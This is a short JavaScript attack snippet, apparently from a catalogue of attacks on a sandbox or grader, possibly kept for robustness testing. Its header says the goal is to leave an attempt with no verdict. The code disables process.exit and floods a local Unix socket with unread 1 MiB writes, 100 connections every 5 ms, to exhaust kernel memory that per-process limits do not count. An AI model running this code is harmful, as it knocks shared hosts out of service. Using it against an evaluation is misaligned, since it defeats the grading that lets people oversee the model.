// ---
// tries: Fills sockets that nobody reads, which take memory of the kernel that no limit of a process counts.
// place: before
// gain: no verdict, so that the attempt may not count
// helps: kernel-memory
// ---
const attackPath = `/tmp/attack-@NONCE@-${process.pid}`;
const attackSockets = [];
// One for all: what a process holds itself is limited.
const attackBlock = Buffer.alloc(1 << 20);
process.exit = () => {};
const attackConnect = () => {
  for (let i = 0; i < 100; i++) {
    const socket = require("node:net").connect(attackPath, () => socket.write(attackBlock));
    attackSockets.push(socket.on("error", () => {}));
  }
};
require("node:net").createServer((socket) => attackSockets.push(socket.pause()))
  .listen(attackPath, 4096, () => setInterval(attackConnect, 5));
